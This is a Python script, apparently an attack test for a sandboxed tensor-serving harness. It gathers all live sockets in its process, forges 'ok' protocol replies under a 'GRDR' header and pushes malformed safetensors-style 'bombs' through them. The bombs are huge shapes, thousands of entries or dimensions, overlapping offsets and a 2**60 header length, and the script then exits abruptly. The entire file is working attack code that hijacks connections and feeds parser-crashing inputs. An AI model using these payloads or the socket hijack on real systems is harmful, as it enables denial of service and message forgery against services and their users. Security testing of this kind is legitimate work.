import torch
from telltale import breach, tried, works  # noqa: F401
import gc
import os
import socket
import struct

SOCKETS = [thing for thing in gc.get_objects() if isinstance(thing, socket.socket) and thing.fileno() >= 0]
NUMBER = [0]


def watch(frame):
    """The id of the request that is being answered."""
    import sys
    while frame is not None:
        found = frame.f_locals.get("frame")
        if hasattr(found, "request_id"):
            return found.request_id
        frame = frame.f_back
    return 0


def say(head, json_bytes=None, body_bytes=0, body=b""):
    import sys
    number = watch(sys._getframe())
    data = struct.pack(">4sBBHQIQ", b"GRDR", 1, 3, 0, number, len(head) if json_bytes is None else json_bytes, body_bytes)
    for sock in SOCKETS:
        try:
            sock.sendall(data + head + body)
        except OSError:
            pass

import json


def table(entries, data=b""):
    head = json.dumps(entries).encode()
    return struct.pack("<Q", len(head)) + head + data


BOMBS = [
    table({"0": {"dtype": "I64", "shape": [0, 2**62], "data_offsets": [0, 0]}}),
    table({str(n): {"dtype": "I64", "shape": [0], "data_offsets": [0, 0]} for n in range(2000)}),
    table({"0": {"dtype": "I64", "shape": [1] * 2000, "data_offsets": [0, 8]}}, bytes(8)),
    table({"0": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}, "1": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}, bytes(8)),
    struct.pack("<Q", 2**60) + b"{}",
]
HEAD = b'{"status": "ok", "value": {"$": "tensor", "v": "0"}, "error": null}'


def send(number):
    tried()
    say(HEAD, body_bytes=len(BOMBS[number]), body=BOMBS[number])
    os._exit(0)


def code(x):
    send(0 if x == 0 else 3)


def rows(x):
    send(1)


def build():
    send(2)


def attack():
    tried()
